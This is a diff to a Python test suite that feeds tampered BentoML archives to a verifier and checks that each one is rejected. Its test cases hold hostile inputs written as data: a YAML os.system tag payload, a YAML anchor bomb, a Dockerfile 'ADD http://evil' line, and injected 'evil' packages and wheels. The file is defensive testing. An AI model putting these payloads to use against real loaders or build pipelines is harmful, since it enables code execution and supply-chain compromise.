@@ -117,10 +117,7 @@ def _forged(name: str, old: str, new: str) -> Callable[[Tampered], bytes]:
 
 
 def _added(name: str, text: str, seal: str = "everything") -> Callable[[Tampered], bytes]:
-    def change(valid: Tampered) -> None:
-        valid.files[name] = valid.files.get(name, b"") + text.encode()
-
-    return _changed(change, seal)
+    return _changed(lambda valid: valid.add(name, text), seal)
 
 
 def _manifest(
@@ -308,7 +305,7 @@ _CONTENTS = [
     ),
     Hostile(
         "wrong digest",
-        _changed(lambda valid: valid.append("README.md", "x")),
+        _changed(lambda valid: valid.add("README.md", "x")),
         "'README.md': the file is not the one that was sealed",
     ),
     Hostile(
@@ -369,7 +366,7 @@ _CONTENTS = [
     ),
     Hostile(
         "tag collision",
-        _changed(lambda valid: valid.append("src/licenses.json", " "), "digests"),
+        _changed(lambda valid: valid.add("src/licenses.json", " "), "digests"),
         "it is another Bento",
     ),
     Hostile(
@@ -412,7 +409,7 @@ _CONTENTS = [
     ),
     Hostile(
         "golden response changed",
-        _changed(lambda valid: valid.append(f"{valid.model}golden/1.response.json", " "), "everything"),
+        _changed(lambda valid: valid.add(f"{valid.model}golden/1.response.json", " "), "everything"),
         "1.response.json: the file is another than the one",
     ),
     Hostile(
@@ -427,39 +424,39 @@ _CONTENTS = [
 _BENTO_FILE = [
     Hostile(
         "YAML bomb",
-        _changed(lambda valid: valid.append("bento.yaml", "a: &a [x, x]\nb: [*a, *a]\n"), "digests"),
+        _changed(lambda valid: valid.add("bento.yaml", "a: &a [x, x]\nb: [*a, *a]\n"), "digests"),
         "an anchor or an alias",
     ),
     Hostile(
         "YAML tag",
         _changed(
-            lambda valid: valid.append("bento.yaml", "a: !!python/object/apply:os.system ['touch canary']\n"), "digests"
+            lambda valid: valid.add("bento.yaml", "a: !!python/object/apply:os.system ['touch canary']\n"), "digests"
         ),
         "which asks for an object of a class",
     ),
     Hostile(
         "YAML key twice",
-        _changed(lambda valid: valid.append("bento.yaml", "name: other\n"), "digests"),
+        _changed(lambda valid: valid.add("bento.yaml", "name: other\n"), "digests"),
         "it has the key 'name' twice",
     ),
     Hostile(
         "YAML merge",
-        _changed(lambda valid: valid.append("bento.yaml", "<<: {a: b}\n"), "digests"),
+        _changed(lambda valid: valid.add("bento.yaml", "<<: {a: b}\n"), "digests"),
         "it merges a mapping into another",
     ),
     Hostile(
         "two YAML documents",
-        _changed(lambda valid: valid.append("bento.yaml", "---\nname: other\n"), "digests"),
+        _changed(lambda valid: valid.add("bento.yaml", "---\nname: other\n"), "digests"),
         "it has more than one document",
     ),
     Hostile(
         "deep YAML",
-        _changed(lambda valid: valid.append("bento.yaml", "a: " + "[" * 80 + "]" * 80 + "\n"), "digests"),
+        _changed(lambda valid: valid.add("bento.yaml", "a: " + "[" * 80 + "]" * 80 + "\n"), "digests"),
         "it is nested more than 64 deep",
     ),
     Hostile(
         "damaged YAML",
-        _changed(lambda valid: valid.append("bento.yaml", "a: [\n"), "digests"),
+        _changed(lambda valid: valid.add("bento.yaml", "a: [\n"), "digests"),
         "no YAML that can be relied on: it is damaged",
     ),
     Hostile(
@@ -469,7 +466,7 @@ _BENTO_FILE = [
     ),
     Hostile(
         "docker options",
-        _changed(lambda valid: valid.append("bento.yaml", "docker: {setup_script: x}\n"), "digests"),
+        _changed(lambda valid: valid.add("bento.yaml", "docker: {setup_script: x}\n"), "digests"),
         "it has the key 'docker'",
     ),
     Hostile(
@@ -520,7 +517,7 @@ _BENTO_FILE = [
     ),
     Hostile(
         "changed service file",
-        _changed(lambda valid: valid.append(valid.service, "import canary\n"), "everything"),
+        _changed(lambda valid: valid.add(valid.service, "import canary\n"), "everything"),
         "is not the one that this SDK generates",
     ),
 ]
@@ -544,7 +541,7 @@ _IMAGE = [
     ),
     Hostile(
         "injected ADD",
-        _changed(lambda valid: valid.append(_DOCKERFILE, "ADD http://evil /\n"), "digests"),
+        _changed(lambda valid: valid.add(_DOCKERFILE, "ADD http://evil /\n"), "digests"),
         "steps, and BentoML makes",
     ),
     Hostile(
@@ -594,11 +591,25 @@ _LOCKFILE = [
         _added("env/python/requirements.txt", "evil==1\n", "digests"),
         "it has BentoML install something besides the lockfile",
     ),
+    Hostile(
+        "wheels that nobody told of", _added("src/wheelhouse/evil-1-py3-none-any.whl", "x"), "dependencies are not in"
+    ),
+    Hostile(
+        "wheel that is not locked",
+        _changed(
+            lambda valid: valid.change_manifest(lambda said: said.update(bundled=True)).add(
+                "src/wheelhouse/evil-1-py3-none-any.whl", "x"
+            ),
+            "everything",
+        ),
+        "the lockfile does not name this wheel",
+    ),
+    Hostile("wheels missing", _manifest(lambda said: said.update(bundled=True)), "dependencies are in the archive"),
     Hostile("another Python", _added("src/python-version.txt", "3.10.0\n"), "it is not the manifest's Python"),
     Hostile(
         "another wheel",
         _changed(
-            lambda valid: valid.append(next(name for name in valid.files if name.endswith(".whl")), "x"), "everything"
+            lambda valid: valid.add(next(name for name in valid.files if name.endswith(".whl")), "x"), "everything"
         ),
         "the digest of the SDK's wheel is not that of the file",
     ),
